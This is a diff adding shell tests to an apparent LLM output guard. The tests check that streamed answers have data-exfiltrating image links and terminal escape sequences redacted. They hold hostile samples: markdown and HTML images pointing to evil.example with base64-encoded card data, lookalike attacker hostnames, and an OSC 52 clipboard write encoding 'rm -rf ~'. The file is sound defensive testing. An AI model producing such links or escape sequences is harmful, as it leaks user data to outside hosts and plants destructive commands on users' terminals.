@@ -89,6 +89,56 @@ chat=/v1/chat/completions
     hasnt "$AUDIT" SP-70
 }
 
+# says DELTA TEXT - the text left of a streamed answer; TEXT is a JSON string.
+says() {
+    printf '{"model":"m","stream":true,"messages":[{"role":"user","content":%s}]}' \
+        "$2" >say.json
+    guarded -N --json @say.json "$LLM$chat?say=user&delta=$1" >out
+    said out
+}
+
+@test "an image that carries data off is not loaded, whole and in every cut" {
+    local delta url='//evil.example/a?d=Y2FyZCA0MTExIDExMTEgMTExMQ'
+    for delta in 1 2 7 40; do
+        is "$(says $delta "\"Hi ![x](https:$url) and <img src='$url'> bye\"")" \
+            "Hi ![x]([redacted:image-link]) and <img src='[redacted:image-link]'> bye"
+        hasnt out evil
+        is "$(says $delta '"![x](https://ok.example/logo.png) [y](https://z.example)"')" \
+            '![x](https://ok.example/logo.png) [y](https://z.example)'
+    done
+    printf '{"model":"m","messages":[{"role":"user","content":"![x](https:%s)"}]}' \
+        "$url" >say.json
+    guarded --json @say.json "$LLM$chat?say=user" >out
+    has out '![x]([redacted:image-link])'
+    has "$AUDIT" SP-7021
+    hasnt "$AUDIT" evil.example
+}
+
+@test "hosts that the policy allows may have it, others that look like them not" {
+    local POLICY=$BATS_TEST_TMPDIR/policy.yaml
+    local data='/a?d=Y2FyZCA0MTExIDExMTEgMTExMQ'
+    printf '%s\n' 'include: [packs/leak.yaml]' 'hosts:' "  - localhost:$PORT" \
+        'links: {allow: ["*.ok.example", "bücher.example"]}' >"$POLICY"
+    is "$(says 3 "\"![](https://img.OK.example.$data)\"")" \
+        "![](https://img.OK.example.$data)"
+    is "$(says 3 "\"![](https://xn--bcher-kva.example$data)\"")" \
+        "![](https://xn--bcher-kva.example$data)"
+    for host in img.ok.example.evil.test img.ok.example@evil.test ok.example \
+        xok.example 0x7f.1; do
+        is "$(says 3 "\"![](https://$host$data)\"")" '![]([redacted:image-link])'
+    done
+}
+
+@test "orders to a terminal are taken out of an answer" {
+    local delta
+    for delta in 1 2 7 40; do
+        is "$(says $delta '"ok \u001b]52;c;cm0gLXJmIH4=\u0007 \u001b[31mred\u001b[0m \u009b2Jx"')" \
+            'ok [redacted:terminal] [esc]red[esc] [esc]x'
+        hasnt out 52
+        hasnt out 'u001b'
+    done
+}
+
 @test "an exchange has its own prompt, also on a connection with others" {
     ask ask.json true
     prompt other.json "You are Halberd" true
